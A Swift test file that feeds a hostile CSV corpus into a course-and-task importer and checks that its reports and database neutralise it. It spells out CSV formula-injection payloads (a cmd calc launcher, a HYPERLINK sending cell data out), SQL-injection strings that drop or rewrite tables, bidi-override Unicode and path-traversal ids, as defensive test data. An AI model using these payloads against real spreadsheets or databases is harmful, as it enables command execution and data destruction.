import Foundation
import Testing

/// What the values of the hostile corpus do after an import: in CSV reports, in the database,
/// in report file names.
extension HostileCorpusTests {
    /// Imports the baseline and then corpus files (each as a tasks-named file), expecting `exits`.
    private func sandboxWithCorpus(_ files: [String], exits: [Int32]) throws -> Sandbox {
        let sandbox = try Sandbox()
        try Fixtures.writeValidSet(sandbox)
        #expect(try sandbox.run(["--db", "db.sqlite", "import", "courses.csv", "tasks.csv"]).exitCode == 0)
        for (file, exit) in zip(files, exits) {
            try sandbox.write("hostile-tasks.csv", bytes: Data(contentsOf: Self.hostileDirectory.appendingPathComponent(file)))
            let result = try sandbox.run(["--db", "db.sqlite", "import", "hostile-tasks.csv"])
            #expect(result.exitCode == exit, "\(file): \(result)")
        }
        try FileManager.default.removeItem(atPath: sandbox.path("hostile-tasks.csv"))
        return sandbox
    }

    @Test func formulaCellsComeOutOfCSVReportsAsText() throws {
        let sandbox = try sandboxWithCorpus(["formula-titles.csv"], exits: [0])
        let result = try sandbox.run(["--db", "db.sqlite", "report", "list", "--course", "bio", "--format", "csv"])
        #expect(result.exitCode == 0)
        let records = CSVRecords.parse(result.stdout)
        let header = try #require(records.first)
        let id = try #require(header.firstIndex(of: "task_id"))
        let title = try #require(header.firstIndex(of: "title"))
        let student = try #require(header.firstIndex(of: "student_id"))
        var byID: [String: [String]] = [:]
        for record in records.dropFirst() where record.count == header.count { byID[record[id]] = record }
        let expected: [(String, String)] = [
            ("f1", "'=cmd|' /C calc'!A0"),
            ("f2", "'+1"),
            ("f3", "'-1"),
            ("f4", "'@SUM(1+1)*cmd|' /C calc'!A0"),
            ("f5", "'=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")"),
            ("f6", "'=1+2"),
        ]
        for (task, text) in expected {
            #expect(byID[task]?[title] == text, "\(task)")
        }
        let formulaID = try #require(byID["'=f7"], "the id =f7 is written '=f7")
        #expect(formulaID[student] == "'@s7")
        // The database keeps the values as they were written.
        #expect(
            try DatabaseSnapshot.lines(
                sandbox.path("db.sqlite"), "SELECT task_id, title, student_id FROM tasks WHERE task_id IN ('f1', '=f7') ORDER BY 1")
                == "=f7|Formula id|@s7\nf1|=cmd|' /C calc'!A0|s1\n")
    }

    @Test func sqlLookingValuesAreStoredVerbatim() throws {
        let sandbox = try sandboxWithCorpus(["sql-looking-values.csv"], exits: [0])
        let db = sandbox.path("db.sqlite")
        #expect(
            try DatabaseSnapshot.lines(
                db, "SELECT task_id, course_id, title, student_id FROM tasks WHERE task_id NOT IN ('t1', 't2', 't3') ORDER BY 1")
                    == """
                    '; DROP TABLE tasks; --|bio|Robert'); DELETE FROM courses; --|s1
                    q2|bio|1" OR "1"="1|' OR 1=1 --
                    q3|his|x'); UPDATE tasks SET title='pwned'; --|s3
                    q4|his|NULL|\\N

                    """)
        #expect(try DatabaseSnapshot.int(db, "SELECT count(*) FROM courses") == 2)
        #expect(try DatabaseSnapshot.int(db, "SELECT count(*) FROM tasks WHERE title = 'pwned'") == 0)
    }

    @Test func unicodeTitlesAreStoredInNFC() throws {
        let sandbox = try sandboxWithCorpus(["unicode-titles.csv"], exits: [65])
        let stored = try DatabaseSnapshot.lines(
            sandbox.path("db.sqlite"), "SELECT task_id, title FROM tasks WHERE task_id LIKE 'uni%' ORDER BY 1")
        let expected =
            "uni1|Lab \u{1F469}\u{200D}\u{1F4BB} report \u{1F9EA}\n"
            + "uni2|Zero\u{200B}width\u{200C}join\u{2060}word\n"
            + "uni3|Right\u{202E}to left\u{202C} override\n"
            + "uni4|Caf\u{E9} and r\u{E9}sum\u{E9}\n"
            + "uni5|\u{D55C}\u{AE00}\n"
            + "uni6|Padded with spaces\n"
        // Compared as scalars: `==` on String treats NFD and NFC as equal.
        #expect(
            Array(stored.unicodeScalars) == Array(expected.unicodeScalars),
            "stored: \(stored.unicodeScalars.map { String($0.value, radix: 16) })")
        #expect(Array(stored.unicodeScalars) == Array(stored.precomposedStringWithCanonicalMapping.unicodeScalars))
    }

    @Test func idsWithPathSeparatorsKeepReportFilesInsideTheOutFolder() throws {
        let sandbox = try sandboxWithCorpus(["path-separator-course-ids.csv", "path-separator-task-ids.csv"], exits: [0, 0])
        let formats = ["html", "markdown", "json", "csv", "text"]
        for format in formats {
            for kind in ["grid", "list"] {
                let result = try sandbox.run(["--db", "db.sqlite", "report", kind, "--format", format, "--out", "out/\(format)"])
                #expect(result.exitCode == 0, "\(kind) \(format): \(result)")
            }
        }
        // Nothing new next to the inputs and the database (and its -wal, -shm): every file went into out/.
        let listing = try sandbox.listing().filter { !$0.hasPrefix("db.sqlite") }
        #expect(listing == ["courses.csv", "out", "tasks.csv"])
        let extensions = ["html": "html", "markdown": "md", "json": "json", "csv": "csv", "text": "txt"]
        for format in formats {
            let folder = sandbox.directory.appendingPathComponent("out/\(format)")
            let files = try FileManager.default.contentsOfDirectory(atPath: folder.path).sorted()
            // index + one list per course: bio, his and the six hostile ids, all directly in the folder.
            #expect(files.count == 9, "\(format): \(files)")
            for file in files {
                var isDirectory: ObjCBool = false
                #expect(FileManager.default.fileExists(atPath: folder.appendingPathComponent(file).path, isDirectory: &isDirectory))
                #expect(!isDirectory.boolValue, "\(format)/\(file) is a folder")
                #expect(file.hasSuffix("." + (extensions[format] ?? "?")), "\(format)/\(file)")
                #expect(!file.hasPrefix("."), "\(format)/\(file) is hidden")
                #expect(!file.contains("/") && !file.contains("\\"), "\(format)/\(file)")
            }
        }
        #expect(!FileManager.default.fileExists(atPath: sandbox.path("etc")))
        #expect(!FileManager.default.fileExists(atPath: sandbox.directory.deletingLastPathComponent().appendingPathComponent("etc").path))
    }
}
